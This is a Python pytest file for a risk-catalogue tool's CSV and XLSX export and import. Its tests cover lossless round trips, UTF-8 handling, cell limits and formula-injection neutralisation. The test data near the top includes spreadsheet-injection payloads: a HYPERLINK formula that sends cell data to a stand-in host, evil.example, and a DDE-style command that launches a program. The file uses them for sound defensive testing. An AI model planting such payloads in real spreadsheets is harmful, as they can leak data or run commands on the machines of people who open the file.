"""Spreadsheets: CSV and XLSX exports that Excel and LibreOffice open as they are, and read back
without loss; formula cells neutralised; bounded cells; folders as input."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml
from fastapi.testclient import TestClient

from riskatlas.catalog.spreadsheets import CELL_LIMIT, neutralise, restore
from riskatlas.config import Settings
from riskatlas.parties.service import seed
from riskatlas.runtime import Runtime
from tests.conftest import audit_verified
from tests.helpers import SMALL, cli, export, load

pytestmark = pytest.mark.audited  # issue 8: the audit chain holds after each test

SECTIONS = ("actors", "risks", "measures")
# Titles a spreadsheet would run as formulas (OWASP), and texts that only look like them.
TRICKY = ['=HYPERLINK("https://evil.example/?q="&A1,"click")', "+cmd|' /C calc'!A0",
          "@SUM(1)", "-2+3", "-10%", "'=quoted already", "''@twice", "'plain quote",
          "=tab\tinside", "x", "_x0041_ is not A"]  # (stored texts never start with a tab)


def _fresh(tmp_path: Path, sqlite_template: Path, name: str = "target.db") -> str:
    """An empty catalog database (states and organisations only), for round trips."""
    path = tmp_path / name
    shutil.copy(sqlite_template, path)
    url = f"sqlite:///{path}"
    with Runtime(Settings(database_url=url)).transaction() as session:
        seed(session)
    return url


def _export_files(db_url: str, tmp_path: Path, fmt: str) -> Path:
    out = tmp_path / ("book.xlsx" if fmt == "xlsx" else "tables")
    result = cli("export", "--format", fmt, "--output", str(out), "--db", db_url)
    assert result.exit_code == 0, result.output
    return out


def _tricky_catalog(tmp_path: Path) -> Path:
    """small.yaml plus one risk per tricky title, line breaks with CR and a long summary."""
    doc = yaml.safe_load(SMALL.read_text(encoding="utf-8"))
    base = doc["risks"][1]
    for n, title in enumerate(TRICKY):
        doc["risks"].append(dict(base, key=f"CA-INJ-{n:03d}",
                                 title={"en": title, "ru": f"Заголовок {title}"},
                                 summary={"en": "first line\r\nsecond\rthird", "ru": "Ж" * 1000},
                                 rationale={"en": "-1 level", "ru": "+1 уровень"}))
    path = tmp_path / "tricky.json"
    path.write_text(json.dumps(doc, ensure_ascii=False, default=str), encoding="utf-8")
    return path


def _sheet_rows(book: Path, sheet: str) -> list[dict[str, Any]]:
    """Rows of a sheet as Excel shows them (openpyxl leaves OOXML's _xHHHH_ escapes as they
    are; Excel decodes them)."""
    import openpyxl

    from riskatlas.catalog.spreadsheets import _unescape

    workbook = openpyxl.load_workbook(book)
    rows = list(workbook[sheet].iter_rows(values_only=True))
    return [dict(zip(rows[0], (_unescape(v) if isinstance(v, str) else v for v in row),
                     strict=True)) for row in rows[1:]]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_spreadsheet_round_trip_is_lossless(
    db_url: str, tmp_path: Path, sqlite_template: Path, fmt: str
) -> None:
    load(db_url, _tricky_catalog(tmp_path))
    first = export(db_url)
    out = _export_files(db_url, tmp_path, fmt)
    target = _fresh(tmp_path, sqlite_template)
    load(target, out)  # a workbook, or the folder of three CSV files
    assert export(target) == first
    titles = {r["key"]: r["title"]["en"] for r in export(target)["risks"]}
    assert [titles[f"CA-INJ-{n:03d}"] for n in range(len(TRICKY))] == TRICKY
    # The file just exported carries the current versions: importing it again changes nothing.
    again = _export_files(target, tmp_path / "again", fmt)
    load(target, again)
    assert export(target) == first
    audit_verified(target)


def test_default_library_round_trips_through_a_workbook(
    db_url: str, tmp_path: Path, sqlite_template: Path
) -> None:
    assert cli("init", "--db", db_url).exit_code == 0
    first = export(db_url)
    assert len(first["risks"]) > 40
    book = _export_files(db_url, tmp_path, "xlsx")
    target = _fresh(tmp_path, sqlite_template)
    load(target, book)
    assert export(target) == first
    audit_verified(target)


def test_exports_are_utf8_with_bom_and_keep_cyrillic(db_url: str, tmp_path: Path) -> None:
    load(db_url, SMALL)
    out = _export_files(db_url, tmp_path, "csv")
    for name in SECTIONS:
        raw = (out / f"{name}.csv").read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), name
        assert raw.count(b"\xef\xbb\xbf") == 1
    risks = (out / "risks.csv").read_text(encoding="utf-8-sig")
    assert "Тестовый риск" in risks and "Второй риск" in risks
    stdout = cli("export", "--format", "csv", "--db", db_url).stdout_bytes
    assert stdout.startswith(b"\xef\xbb\xbf") and "Тестовый риск".encode() in stdout
    book = _export_files(db_url, tmp_path, "xlsx")
    titles = [row["title.ru"] for row in _sheet_rows(book, "risks")]
    assert titles == ["Тестовый риск", "Второй риск"]
    assert [row["name.ru"] for row in _sheet_rows(book, "actors")] == ["Вилаят Хорасан"]


def test_csv_layout_lists_plain_nested_json_numbers_bare(db_url: str, tmp_path: Path) -> None:
    load(db_url, SMALL)
    out = _export_files(db_url, tmp_path, "csv")
    with (out / "measures.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = {r["key"]: r for r in csv.DictReader(fh)}
    planned = rows["CA-MSR-901"]
    assert planned["states"] == "KAZ;UZB;AZE"
    assert (planned["effect.likelihood"], planned["effect.impact"]) == ("1", "3")
    assert planned["progress"] == "10" and planned["version"] == "1"
    assert json.loads(planned["sources"])[0]["title"] == "Border treaty: signed"
    assert planned["sharing"] == ""  # no grants: an empty cell
    book = _export_files(db_url, tmp_path, "xlsx")
    sheet = {r["key"]: r for r in _sheet_rows(book, "measures")}["CA-MSR-901"]
    assert (sheet["effect.likelihood"], sheet["progress"], sheet["version"]) == (1, 10, 1)
    assert sheet["states"] == "KAZ;UZB;AZE"


def test_lists_may_be_json_or_comma_separated_on_import(db_url: str, tmp_path: Path) -> None:
    load(db_url, SMALL)
    out = _export_files(db_url, tmp_path, "csv")
    with (out / "risks.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    column = rows[0].index("states")
    rows[1][column] = '["KGZ", "TJK", "UZB"]'
    rows[2][column] = "KAZ, TKM"
    path = tmp_path / "risks.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    load(db_url, path)
    states = {r["key"]: r["states"] for r in export(db_url)["risks"]}
    assert states == {"CA-TST-001": ["KGZ", "TJK", "UZB"], "CA-TST-002": ["KAZ", "TKM"]}


def test_formula_cells_are_neutralised_in_both_formats(db_url: str, tmp_path: Path) -> None:
    load(db_url, _tricky_catalog(tmp_path))
    out = _export_files(db_url, tmp_path, "csv")
    with (out / "risks.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = {r["key"]: r for r in csv.DictReader(fh)}
    book = _export_files(db_url, tmp_path, "xlsx")
    sheet = {r["key"]: r for r in _sheet_rows(book, "risks")}
    for n, title in enumerate(TRICKY):
        dangerous = title.lstrip("'")[:1] in {"=", "+", "-", "@", "\t"}
        expected = "'" + title if dangerous else title
        assert rows[f"CA-INJ-{n:03d}"]["title.en"] == expected, title
        assert sheet[f"CA-INJ-{n:03d}"]["title.en"] == expected, title
    assert rows["CA-INJ-000"]["rationale.en"] == "'-1 level"
    assert rows["CA-INJ-000"]["version"] == "1"  # numbers stay numbers
    import openpyxl

    workbook = openpyxl.load_workbook(book)
    kinds = {cell.data_type for ws in workbook.worksheets for row in ws.iter_rows()
             for cell in row}
    assert "f" not in kinds  # not one formula in the workbook


@pytest.mark.parametrize("text", ["=1+1", "'=1+1", "''=1+1", "'", "'a", "-", "+7", "@", "x=1",
                                  "\r", "\t x", ""])
def test_neutralise_is_undone_exactly(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    assert written[:1] not in {"=", "+", "-", "@", "\t", "\r"}


def test_a_csv_that_is_not_utf8_gets_a_hint(db_url: str, tmp_path: Path) -> None:
    load(db_url, SMALL)
    out = _export_files(db_url, tmp_path, "csv")
    text = (out / "risks.csv").read_text(encoding="utf-8-sig")
    path = tmp_path / "risks.csv"
    path.write_bytes(text.encode("cp1251"))  # as Excel's plain "CSV" saves it in Russia
    line = text.split("\n").index(next(r for r in text.split("\n") if "Тестовый" in r)) + 1
    offset = text.encode("cp1251").index("Тестовый".encode("cp1251"))
    result = cli("import", str(path), "--db", db_url)
    assert result.exit_code == 2
    assert (f'{path}:{line}: file: not UTF-8 text (byte 0xd2 at offset {offset}); save it as '
            '"CSV UTF-8"') in result.stderr
    assert "Windows-1251" in result.stderr


def test_a_cell_above_the_limit_is_a_problem_not_a_crash(db_url: str, tmp_path: Path) -> None:
    load(db_url, SMALL)
    out = _export_files(db_url, tmp_path, "csv")
    with (out / "risks.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    column = rows[0].index("summary.en")
    rows[1][column] = "a" * 200_000  # above the csv module's default limit, below the cell's
    rows[2][column] = "b" * (CELL_LIMIT + 1)
    path = tmp_path / "risks.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    result = cli("validate", str(path), "--db", db_url)
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert f"{path}:3: cell: a cell longer than 1,048,576 characters" in result.stderr
    # A readable cell, but more than a text may hold (the same limit as the API's).
    assert f"{path}:2: summary.en: en: 200,000 characters" in result.stderr \
        or f"{path}:2: summary: en: 200,000 characters" in result.stderr
    rows[1][column] = "a" * 30_000  # within every limit
    del rows[2]
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    assert cli("validate", str(path), "--db", db_url).exit_code == 0


def test_workbook_problems_name_sheet_and_row(db_url: str, tmp_path: Path) -> None:
    import openpyxl

    load(db_url, SMALL)
    book = _export_files(db_url, tmp_path, "xlsx")
    workbook = openpyxl.load_workbook(book)
    sheet = workbook["risks"]
    header = [c.value for c in sheet[1]]
    sheet.cell(row=3, column=header.index("domain") + 1, value="space")
    workbook.save(book)
    result = cli("validate", str(book), "--db", db_url)
    assert result.exit_code == 2
    assert f"{book}:risks!3: domain: Input should be" in result.stderr


def test_a_text_longer_than_an_excel_cell_refuses_the_workbook(
    db_url: str, tmp_path: Path
) -> None:
    from sqlalchemy import update

    from riskatlas.catalog.models import Risk

    load(db_url, SMALL)
    # No door takes a text this long any more (schemas: 32,000 characters); one stored before
    # that limit, or written into the database by hand, must still not make a broken workbook.
    with Runtime(Settings(database_url=db_url)).transaction() as session:
        session.execute(update(Risk).where(Risk.key == "CA-TST-002").values(
            summary={"en": "long " * 8000, "ru": "Новая угроза"}))
    result = cli("export", "--format", "xlsx", "--output", str(tmp_path / "b.xlsx"),
                 "--db", db_url)
    assert result.exit_code == 1
    assert "risks!3: CA-TST-002: summary.en: 40,000 characters" in result.stderr
    assert not (tmp_path / "b.xlsx").exists()


def test_xlsx_export_needs_an_xlsx_output(db_url: str, tmp_path: Path) -> None:
    for extra in ([], ["--output", str(tmp_path / "book.csv")]):
        result = cli("export", "--format", "xlsx", *extra, "--db", db_url)
        assert result.exit_code == 2
        assert "--output FILE.xlsx" in result.stderr


def test_import_and_validate_a_folder(
    db_url: str, tmp_path: Path, sqlite_template: Path
) -> None:
    load(db_url, SMALL)
    first = export(db_url)
    folder = _export_files(db_url, tmp_path, "csv")
    (folder / "~$lock.xlsx").write_bytes(b"not a workbook")  # Excel's lock file: skipped
    (folder / "notes.txt").write_text("not catalog data", encoding="utf-8")
    target = _fresh(tmp_path, sqlite_template)
    result = cli("validate", str(folder), "--db", target)
    assert result.exit_code == 0, result.output
    assert "1 actors, 2 risks, 2 measures" in result.stderr
    load(target, folder)
    assert export(target) == first
    empty = tmp_path / "empty"
    empty.mkdir()
    result = cli("import", str(empty), "--db", target)
    assert result.exit_code == 2
    assert f"{empty}:0: file: no catalog files in this folder" in result.stderr
    audit_verified(target)


def test_every_problem_of_every_file_in_a_folder(db_url: str, tmp_path: Path) -> None:
    folder = tmp_path / "mixed"
    folder.mkdir()
    (folder / "risks.csv").write_bytes("key,domain\nA,\u0436\n".encode("cp1251"))
    (folder / "measures.json").write_text('{"measures": [', encoding="utf-8")
    result = cli("validate", str(folder), "--db", db_url)
    assert result.exit_code == 2
    assert f"{folder / 'risks.csv'}:2: file: not UTF-8" in result.stderr
    assert f"{folder / 'measures.json'}:1: file: invalid JSON" in result.stderr


def test_api_exports_a_workbook_and_csv_with_bom(db_url: str) -> None:
    import openpyxl

    load(db_url, SMALL)
    client = TestClient(create_app_public(db_url))
    response = client.get("/api/v1/export?format=xlsx")
    assert response.status_code == 200
    assert response.headers["content-type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == list(SECTIONS)
    assert [r[0] for r in workbook["risks"].iter_rows(min_row=2, values_only=True)] == [
        "CA-TST-001"]  # anonymous: TLP:CLEAR only
    as_csv = client.get("/api/v1/export?format=csv")
    assert as_csv.content.startswith(b"\xef\xbb\xbf")
    assert "Тестовый риск" in as_csv.content.decode("utf-8-sig")


def create_app_public(db_url: str) -> Any:
    from riskatlas.web.app import create_app

    return create_app(Settings(database_url=db_url, public_mode=True, cookie_secure=False))
